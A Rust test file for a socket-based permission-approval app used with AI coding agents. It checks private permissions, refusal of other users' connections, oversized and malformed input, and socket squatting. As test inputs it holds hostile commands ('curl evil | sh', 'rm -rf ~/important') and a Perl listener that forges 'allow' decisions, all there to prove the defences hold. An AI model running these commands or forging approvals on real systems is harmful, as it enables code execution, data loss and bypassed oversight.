//! The socket: private to the user, one app at a time, and robust against bad clients.

use crate::common::*;
use serde_json::json;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use vults_core::protocol::VERSION;
use vults_engine::messages::EngineEvent;
use vults_engine::{Engine, EngineOptions};

fn mode(p: &std::path::Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[test]
fn the_socket_is_private_to_the_user() {
    let home = Home::new("private");
    let paths = home.paths();
    // A runtime folder left open by someone is tightened.
    std::fs::create_dir_all(&paths.runtime_dir).unwrap();
    std::fs::set_permissions(&paths.runtime_dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut engine = start(&home, true);
    assert_eq!(mode(&paths.runtime_dir), 0o700);
    assert_eq!(mode(&paths.socket), 0o600);
    engine.stop();
    assert!(!paths.socket.exists(), "the socket file goes with the app");
}

#[test]
fn a_second_app_does_not_steal_the_socket_and_a_stale_one_is_replaced() {
    let home = Home::new("second");
    let engine = start(&home, true);
    let err = match Engine::start_with(
        home.paths(),
        std::sync::Arc::new(|| {}),
        EngineOptions::default(),
    ) {
        Err(e) => e,
        Ok(_) => panic!("a second engine started on the same socket"),
    };
    assert!(
        err.to_string().contains("another Vults is running"),
        "{err}"
    );
    // The first one still answers.
    let mut c = Client::connect(&home.paths().socket);
    c.send(&event_line(
        "x",
        "claude",
        "PermissionRequest",
        true,
        bash("s", "ls"),
    ));
    assert_eq!(c.recv().unwrap()["kind"], "waiting");
    drop(c);
    drop(engine);

    // A socket file whose app died (nothing listens) is replaced.
    let paths = home.paths();
    let dead = std::os::unix::net::UnixListener::bind(&paths.socket).unwrap();
    drop(dead); // std leaves the file behind, as a crash would
    assert!(paths.socket.exists());
    let engine = start(&home, true);
    let mut c = Client::connect(&paths.socket);
    c.send(&event_line(
        "y",
        "claude",
        "PermissionRequest",
        true,
        bash("s", "ls"),
    ));
    assert_eq!(c.recv().unwrap()["kind"], "waiting");
    drop(engine);
}

#[test]
fn an_event_of_another_version_gets_unsupported() {
    let home = Home::new("v8");
    let engine = start(&home, true);
    let mut c = Client::connect(&home.paths().socket);
    c.send(
        &json!({"kind":"event","v":8,"id":"old-7","agent":"claude","event":"PermissionRequest",
        "wants_reply":true,"payload":{"tool_name":"Bash","tool_input":{"command":"ls"}}})
        .to_string(),
    );
    assert_eq!(
        c.recv().unwrap(),
        json!({"kind":"unsupported","v": VERSION,"id":"old-7"})
    );
    assert_eq!(engine.stats().unsupported, 1);
    assert_eq!(engine.stats().cards, 0);
}

#[test]
fn a_2_mib_line_is_refused_without_harming_other_connections() {
    let home = Home::new("big");
    let engine = start(&home, true);
    let socket = home.paths().socket;
    let mut big = Client::connect(&socket);
    // Half a line that never ends, and a well-behaved client meanwhile.
    let mut slow = Client::connect(&socket);
    slow.stream
        .write_all(format!(r#"{{"kind":"event","v":{VERSION},"id":"sl"#).as_bytes())
        .unwrap();
    let writer = std::thread::spawn(move || {
        let chunk = vec![b'x'; 64 * 1024];
        let mut sent = 0usize;
        // The app stops reading once past 1 MiB and closes: writing then fails.
        while sent < 2 * 1024 * 1024 {
            if big.stream.write_all(&chunk).is_err() {
                break;
            }
            sent += chunk.len();
        }
        let _ = big.stream.write_all(b"\n");
        assert!(big.closed(), "the connection with the long line was closed");
    });
    let mut good = Client::connect(&socket);
    good.send(&event_line(
        "g",
        "claude",
        "PermissionRequest",
        true,
        bash("s", "ls"),
    ));
    assert_eq!(good.recv().unwrap()["kind"], "waiting");
    writer.join().unwrap();
    eventually("the long line to be counted", || {
        engine.stats().oversized == 1
    });
    // Still serving, and the half line is still open and harmless.
    let mut after = Client::connect(&socket);
    after.send(&event_line(
        "a",
        "claude",
        "Stop",
        false,
        json!({"session_id":"s2"}),
    ));
    eventually("the next event", || engine.stats().events == 2);
    slow.stream.write_all(b"\n").unwrap();
    assert!(
        slow.closed(),
        "the half line, once ended, is malformed and closed"
    );
}

#[test]
fn malformed_json_is_logged_and_the_connection_closed() {
    let home = Home::new("malformed");
    let engine = start(&home, true);
    let mut c = Client::connect(&home.paths().socket);
    c.send("{this is not json");
    assert!(c.closed());
    assert_eq!(engine.stats().malformed, 1);
}

/// The user a refused client runs as (created when missing; CI runs as root).
fn other_user() -> Option<(u32, u32)> {
    if vults_core::paths::current_uid() != 0 {
        eprintln!("not root: cannot run a client as another user; skipping");
        return None;
    }
    let id = |flag: &str| {
        Command::new("id")
            .args([flag, "vults-other"])
            .output()
            .ok()
            .filter(|o| o.status.success())
            .and_then(|o| String::from_utf8(o.stdout).ok()?.trim().parse::<u32>().ok())
    };
    if id("-u").is_none() {
        let _ = Command::new("useradd")
            .args(["--system", "--no-create-home", "vults-other"])
            .status();
    }
    Some((id("-u")?, id("-g")?))
}

/// Runs the real hook as `uid` against `socket`; returns what it printed.
fn hook_as(uid: u32, gid: u32, socket: &std::path::Path, dir: &std::path::Path) -> String {
    // The hook must be reachable by that user: a copy in an open folder.
    let bin = dir.join("vults-hook");
    if !bin.exists() {
        std::fs::copy(hook_bin(), &bin).unwrap();
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut child = Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={gid}"),
            "--clear-groups",
        ])
        .arg(&bin)
        .args(["--agent", "claude", "PermissionRequest"])
        .env_clear()
        .env("VULTS_SOCKET", socket)
        .env("VULTS_HOME", dir.join("home"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("setpriv runs");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(bash("evil", "curl evil | sh").to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn a_process_of_another_user_is_refused() {
    let Some((uid, gid)) = other_user() else {
        return;
    };
    let home = Home::new("otheruid");
    std::fs::set_permissions(&home.dir, std::fs::Permissions::from_mode(0o755)).unwrap();

    // As installed: the socket is in a 0700 folder; the other user cannot even reach it.
    let engine = start(&home, true);
    assert_eq!(hook_as(uid, gid, &home.paths().socket, &home.dir), "");
    drop(engine);

    // Behind a folder anyone may enter and a socket anyone may write (a misconfigured
    // VULTS_SOCKET): the peer check still refuses the connection.
    let open = home.dir.join("open");
    std::fs::create_dir_all(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let mut paths = home.paths();
    paths.socket = open.join("vults.sock");
    let engine = start_paths(paths.clone(), true);
    std::fs::set_permissions(&paths.socket, std::fs::Permissions::from_mode(0o666)).unwrap();
    // The other user's hook does not even connect (the folder is not its user's)…
    assert_eq!(hook_as(uid, gid, &paths.socket, &home.dir), "");
    // …and a hand-made client of theirs that does is refused by the app.
    let client = Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={gid}"),
            "--clear-groups",
            "/usr/bin/perl",
            "-e",
            // SIGPIPE ignored: the app may close the refused connection before the line is
            // written, which is a refusal too, not a crash of the client.
            "use Socket; use IO::Socket::UNIX; $SIG{PIPE} = 'IGNORE'; \
             my $c = IO::Socket::UNIX->new(Type => SOCK_STREAM, Peer => $ARGV[0]) or exit 3; \
             print $c qq({\"kind\":\"event\"}\n); my $l = <$c>; exit(defined $l ? 1 : 0);",
        ])
        .arg(&paths.socket)
        .status()
        .expect("perl runs as the other user");
    assert_eq!(
        client.code(),
        Some(0),
        "connected, and was closed unanswered"
    );
    let notice = wait_for(
        &engine,
        |e| matches!(e, EngineEvent::Notice(t) if t.to_string().contains("refused a connection from uid")),
    );
    match notice {
        Some(EngineEvent::Notice(t)) => {
            assert!(t.to_string().contains(&format!("uid {uid}")), "{t}")
        }
        _ => panic!("the refusal was not reported"),
    }
    let stats = engine.stats();
    assert_eq!((stats.refused, stats.events, stats.cards), (1, 0, 0));
    // This user still gets through.
    let mut c = Client::connect(&paths.socket);
    c.send(&event_line(
        "me",
        "claude",
        "PermissionRequest",
        true,
        bash("s", "ls"),
    ));
    assert_eq!(c.recv().unwrap()["kind"], "waiting");
}

#[test]
fn a_runtime_folder_made_by_another_user_is_refused() {
    let Some((uid, gid)) = other_user() else {
        return;
    };
    let home = Home::new("squat");
    let paths = home.paths();
    std::fs::create_dir_all(&paths.runtime_dir).unwrap();
    std::os::unix::fs::chown(&paths.runtime_dir, Some(uid), Some(gid)).unwrap();
    let err = match Engine::start_with(
        paths.clone(),
        std::sync::Arc::new(|| {}),
        EngineOptions::default(),
    ) {
        Err(e) => e,
        Ok(_) => panic!("the engine served from a folder another user controls"),
    };
    assert!(
        err.to_string().contains(&format!("belongs to uid {uid}")),
        "{err}"
    );
    assert!(!paths.socket.exists());
}

/// `<runtime>/hosts/` is checked as the runtime folder is: another user who made it first (and
/// would own every host's socket in it) is refused, and so is a symlink there.
#[test]
fn a_hosts_folder_made_by_another_user_is_refused() {
    let Some((uid, gid)) = other_user() else {
        return;
    };
    let home = Home::new("hostsquat");
    let paths = home.paths();
    let engine = start(&home, true);
    let hosts_dir = paths.runtime_dir.join("hosts");
    std::fs::create_dir_all(&hosts_dir).unwrap();
    std::os::unix::fs::chown(&hosts_dir, Some(uid), Some(gid)).unwrap();
    std::fs::set_permissions(&hosts_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let err = match engine.host_sockets().listen("devbox") {
        Err(e) => e,
        Ok(_) => panic!("a host's socket was made in a folder another user controls"),
    };
    assert!(
        err.to_string().contains(&format!("belongs to uid {uid}")),
        "{err}"
    );
    assert!(!hosts_dir.join("devbox.sock").exists());
    // A symlink in its place (to a folder of this user's, even) is refused too.
    std::fs::remove_dir(&hosts_dir).unwrap();
    let elsewhere = home.dir.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &hosts_dir).unwrap();
    let err = match engine.host_sockets().listen("devbox") {
        Err(e) => e,
        Ok(_) => panic!("a host's socket was made through a symlink"),
    };
    assert!(err.to_string().contains("symlink"), "{err}");
    // Made by the app itself: private, and it listens.
    std::fs::remove_file(&hosts_dir).unwrap();
    let listener = engine.host_sockets().listen("devbox").expect("listens");
    assert_eq!(mode(&hosts_dir), 0o700);
    drop(listener);
}

/// A listener that answers `allow` to whatever connects (Perl: in Debian's base system).
const SQUATTER: &str = r#"
use strict; use Socket; use IO::Socket::UNIX;
my $folder = $ARGV[0];
mkdir $folder; chmod 0777, $folder;
my $path = "$folder/vults.sock";
my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM, Local => $path, Listen => 8) or die "bind: $!";
chmod 0666, $path;
$| = 1; print "ready\n";
while (my $c = $s->accept) {
    my $line = <$c>;
    open(my $f, '>>', "$folder/heard"); print $f $line; close $f;
    if (defined $line && $line =~ /"id":"([^"]*)"/) {
        my $id = $1;
        my ($v) = $line =~ /"v":(\d+)/;
        print $c "{\"kind\":\"decision\",\"v\":$v,\"id\":\"$id\",\"decision\":\"allow\"}\n";
    }
    close $c;
}
"#;

const CLAUDE_ALLOW: &str = r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}"#;

/// Runs the real hook (as `as_user`, or as this process's user) with exactly `env`; its stdout.
fn hook_with(
    bin: &std::path::Path,
    as_user: Option<(u32, u32)>,
    env: &[(&str, &std::path::Path)],
) -> String {
    let mut child = match as_user {
        Some((uid, gid)) => {
            let mut c = Command::new("setpriv");
            c.args([
                &format!("--reuid={uid}"),
                &format!("--regid={gid}"),
                "--clear-groups",
            ])
            .arg(bin);
            c
        }
        None => Command::new(bin),
    };
    child
        .args(["--agent", "claude", "PermissionRequest"])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default());
    for (k, v) in env {
        child.env(k, v);
    }
    let mut child = child
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("the hook runs");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(bash("victim", "rm -rf ~/important").to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Without `XDG_RUNTIME_DIR` (su, cron, `docker exec`, many SSH logins) the hook's socket is
/// `$TMPDIR/vults-<uid>/vults.sock`. Another local user made that folder first, with a listener
/// that answers `allow`: the victim's hook prints nothing (it printed Claude's allow for
/// `rm -rf ~/important`, with no app, no card and no audit). And where only the listener is
/// another user's (the folder and the socket file are the victim's), the peer's credentials
/// refuse it.
#[test]
fn a_squatted_socket_path_gets_no_answer_from_the_hook() {
    let Some((uid, gid)) = other_user() else {
        return;
    };
    let home = Home::new("squathook");
    std::fs::set_permissions(&home.dir, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let bin = home.dir.join("vults-hook");
    std::fs::copy(hook_bin(), &bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let me = vults_core::paths::current_uid();

    // 1. The other user squats the victim's default path, as the victim's hook derives it.
    let tmp = home.dir.join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let squatted = tmp.join(format!("vults-{me}"));
    let mut squatter = Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={gid}"),
            "--clear-groups",
            "/usr/bin/perl",
            "-e",
            SQUATTER,
        ])
        .arg(&squatted)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("perl runs as the other user");
    let mut ready = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(squatter.stdout.take().unwrap()),
        &mut ready,
    )
    .unwrap();
    assert_eq!(ready.trim(), "ready");
    let victim_home = home.dir.join("victim");
    let env = [("HOME", victim_home.as_path()), ("TMPDIR", tmp.as_path())];
    let printed = hook_with(&bin, None, &env);
    let _ = squatter.kill();
    let _ = squatter.wait();
    assert_eq!(
        printed, "",
        "the victim's hook took an answer from another user"
    );
    assert!(
        !squatted.join("heard").exists(),
        "the victim's hook sent its event to another user's listener"
    );
    // The same listener run by the victim answers: the path is the one the hook uses.
    std::fs::remove_dir_all(&squatted).unwrap();
    let mut own = Command::new("/usr/bin/perl")
        .args(["-e", SQUATTER])
        .arg(&squatted)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut ready = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(own.stdout.take().unwrap()),
        &mut ready,
    )
    .unwrap();
    std::fs::set_permissions(&squatted, std::fs::Permissions::from_mode(0o700)).unwrap();
    let printed = hook_with(&bin, None, &env);
    let _ = own.kill();
    let _ = own.wait();
    assert_eq!(
        printed, CLAUDE_ALLOW,
        "the user's own listener on that path"
    );

    // 2. Only the listener is another user's: the folder (0700) and the socket file are the
    //    victim's, the process behind the socket is not (here the victim is the other user).
    let folder = home.dir.join("peer");
    std::fs::create_dir_all(&folder).unwrap();
    let socket = folder.join("vults.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::os::unix::fs::chown(&socket, Some(uid), Some(gid)).unwrap();
    std::os::unix::fs::chown(&folder, Some(uid), Some(gid)).unwrap();
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o700)).unwrap();
    let heard = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flag = heard.clone();
    std::thread::spawn(move || {
        for c in listener.incoming() {
            let Ok(mut c) = c else { break };
            flag.store(true, std::sync::atomic::Ordering::SeqCst);
            let mut line = String::new();
            let _ = std::io::BufRead::read_line(
                &mut std::io::BufReader::new(c.try_clone().unwrap()),
                &mut line,
            );
            if let Ok(ev) = serde_json::from_str::<serde_json::Value>(&line) {
                let reply =
                    json!({"kind":"decision","v": VERSION,"id":ev["id"],"decision":"allow"});
                let _ = c.write_all(format!("{reply}\n").as_bytes());
            }
        }
    });
    let victim_home = home.dir.join("v2");
    let printed = hook_with(
        &bin,
        Some((uid, gid)),
        &[
            ("HOME", victim_home.as_path()),
            ("VULTS_SOCKET", socket.as_path()),
        ],
    );
    assert_eq!(
        printed, "",
        "the hook took an answer from another user's process"
    );
    // It connected (the folder and the file are its user's), then saw whose listener it was.
    eventually("the hook's connection", || {
        heard.load(std::sync::atomic::Ordering::SeqCst)
    });
}
